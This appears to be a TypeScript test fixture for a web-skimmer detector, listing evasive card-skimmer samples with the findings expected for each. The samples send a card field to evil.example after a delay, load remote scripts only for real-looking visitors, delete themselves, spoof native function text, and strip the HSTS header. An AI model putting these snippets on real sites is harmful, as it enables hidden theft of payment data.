import { number, type Skimmer, script, served } from "./skimmer.ts";

/** Ways to stay unseen. */
export const hiders: readonly Skimmer[] = [
  {
    name: "a time bomb of two minutes",
    body: script(`setTimeout(function(){fetch('https://evil.example/bomb?'+btoa(${number}.value),{mode:'no-cors'})},120000);`),
    named: [["card-sent", "https://evil.example/bomb"]],
  },
  {
    name: "hides from navigator.webdriver",
    head: script(
      "if(!navigator.webdriver){var s=document.createElement('script');s.src='https://evil.example/human.js';document.head.append(s)}",
    ),
    files: served("evil.example/human.js", "window.x=1"),
    named: [["script", "human.js"]],
  },
  {
    name: "hides from headless browsers",
    head: script(
      "if(!/Headless/.test(navigator.userAgent+JSON.stringify(navigator.userAgentData||''))&&navigator.plugins.length&&navigator.languages.length&&window.chrome&&screen.width>800&&!/Linux/.test(navigator.platform)){var s=document.createElement('script');s.src='https://evil.example/head.js';document.head.append(s)}",
    ),
    files: served("evil.example/head.js", "window.x=1"),
    named: [["script", "head.js"]],
  },
  {
    name: "hides from data centres by reverse look-up",
    head: script(
      "fetch('https://whois.example/me').then(function(r){return r.text()}).then(function(n){if(!/amazonaws|compute/.test(n)){var s=document.createElement('script');s.src='https://evil.example/home.js';document.head.append(s)}});",
    ),
    files: served("whois.example/me", "ec2-203-0-113-9.compute-1.amazonaws.com", "text/plain"),
    named: [
      ["host", "https://whois.example"],
      ["inline-script", "whois.example"],
    ],
  },
  {
    name: "shows itself to one visitor in five",
    alone: true,
    head: '<script src="https://evil.example/fifth.js"></script>',
    shownTo: (visitor) => visitor % 5 === 0,
    files: served("evil.example/fifth.js", "window.x=1"),
    visits: 5,
    named: [["script", "fifth.js"]],
  },
  {
    name: "removes itself from the page",
    body: script(
      "var s=document.createElement('script');s.src='https://evil.example/gone.js';s.onload=function(){s.remove()};document.head.append(s);document.currentScript.remove();",
    ),
    files: served("evil.example/gone.js", "window.x=1"),
    named: [["script", "gone.js"]],
  },
  {
    name: "puts the browser's functions back",
    body: script(
      "var o=window.fetch;window.fetch=function(u){return o('https://evil.example/h',{mode:'no-cors'})};fetch('/');window.fetch=o;",
    ),
    named: [
      ["host", "https://evil.example/h"],
      ["inline-script", "evil.example/h"],
    ],
  },
  {
    name: "hides its function's text",
    body: script(
      "var o=window.fetch;window.fetch=function(){return o.apply(this,arguments)};window.fetch.toString=function(){return 'function fetch() { [native code] }'};Function.prototype.toString=function(){return 'function () { [native code] }'};",
    ),
    named: [["hook", "window.fetch"]],
  },
  {
    name: "reads with a getter that was kept from before",
    head: script(
      `var g=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value').get;document.addEventListener('focusin',function(){setInterval(function(){var e=${number};if(e)g.call(e)},5)},{once:true});`,
    ),
    named: [["card-read", "reads the card's field"]],
  },
  {
    name: "takes a header away",
    alone: true,
    reply: (_, response) => {
      response.setHeader = (
        (set) => (name: string, value: number | string | readonly string[]) =>
          name === "strict-transport-security" ? response : set(name, value)
      )(response.setHeader.bind(response));
      return false;
    },
    named: [["header", "strict-transport-security"]],
  },
];
